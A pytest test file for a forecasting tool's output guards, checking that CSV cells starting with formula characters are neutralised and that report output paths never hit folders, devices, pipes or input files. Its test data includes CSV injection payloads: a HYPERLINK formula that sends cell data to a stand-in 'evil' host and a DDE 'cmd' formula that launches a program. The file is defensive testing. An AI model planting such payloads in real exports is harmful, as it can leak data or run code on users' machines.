"""The output guards of echelon.fileio (issue 19): ``csv_safe_cell`` / ``csv_safe_frame`` (OWASP
CSV injection rule), ``check_output_path`` (never a folder, a device, a FIFO or an input), and
their use by ``echelon report --out`` and the forecast CSV writer."""

from __future__ import annotations

import os
from pathlib import Path

import pandas as pd
import pytest
from cli_helpers import run_cli

from echelon.errors import InputError
from echelon.fileio import check_output_path, csv_safe_cell, csv_safe_frame
from echelon.forecast.data import write_table
from echelon.storage import save_run
from storage.factories import make_plan_result


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil/?x="&A1,"Click")', '\'=HYPERLINK("http://evil/?x="&A1,"Click")'),
        ("+CA_1", "'+CA_1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width =
        ("-", "'-"),
        ("-5", "-5"),  # a genuine number stays a number
        ("+3.25", "+3.25"),
        ("-1e-3", "-1e-3"),
        ("-.5", "-.5"),
        ("FOODS_1", "FOODS_1"),
        ("a=b", "a=b"),  # only the first character matters
        ("", ""),
        (-5, -5),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_csv_safe_cell(value: object, expected: object) -> None:
    assert csv_safe_cell(value) == expected


def test_csv_safe_frame_and_the_forecast_writer(tmp_path: Path) -> None:
    df = pd.DataFrame(
        {"unique_id": ["=cmd|' /C calc'!A0", "FOODS_1"], "mean": [-5.0, 3.0], "model": ["@x", "ok"]}
    )
    safe = csv_safe_frame(df)
    assert safe["unique_id"].tolist() == ["'=cmd|' /C calc'!A0", "FOODS_1"]
    assert safe["mean"].tolist() == [-5.0, 3.0] and safe["model"].tolist() == ["'@x", "ok"]
    assert df["unique_id"][0].startswith("=")  # the input frame is not changed
    write_table(df, tmp_path / "f.csv")
    text = (tmp_path / "f.csv").read_text()
    assert "'=cmd" in text and "'@x" in text and "-5.0" in text


def test_check_output_path_cases(tmp_path: Path) -> None:
    data = tmp_path / "demand.csv"
    data.write_text("x\n")
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "to_data").symlink_to(data)
    bad = {
        tmp_path: "a folder",
        Path("/dev/full"): "character device",
        tmp_path / "pipe": "FIFO",
        data: "would overwrite",
        tmp_path / "to_data": "would overwrite",
        tmp_path / "." / "demand.csv": "would overwrite",
        data / "x.html": "cannot use",
    }
    for path, fragment in bad.items():
        with pytest.raises(InputError, match=fragment) as exc:
            check_output_path(path, protected=[data], what="--report")
        assert "--report" in str(exc.value) and "\n" not in str(exc.value)
    fine = [tmp_path / "new.html", tmp_path / "sub" / "dir" / "new.html"]
    for path in fine:
        assert check_output_path(path, protected=[data], what="--report") == path
    (tmp_path / "old.html").write_text("old")
    assert check_output_path(tmp_path / "old.html", protected=[data], what="--out")


def test_report_out_refuses_the_database_a_folder_and_a_device(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = tmp_path / "runs.db"
    save_run(str(db), make_plan_result())
    before = db.read_bytes()
    json_in = tmp_path / "run.json"
    json_in.write_text(make_plan_result().model_dump_json())
    for args, fragment in [
        (["--db", str(db), "--out", str(db)], "would overwrite"),
        (["--db", str(db), "--out", str(tmp_path)], "a folder"),
        (["--db", str(db), "--out", "/dev/full"], "character device"),
        (["--from-json", str(json_in), "--out", str(json_in)], "would overwrite"),
    ]:
        code, out, err = run_cli(["report", "1", *args], capsys)
        assert code == 2 and out == "", err
        assert len(err.strip().splitlines()) == 1 and fragment in err, err
    assert db.read_bytes() == before
    names = {p.name for p in tmp_path.iterdir()} - {"runs.db-wal", "runs.db-shm"}
    assert names == {"run.json", "runs.db"}  # no report written anywhere
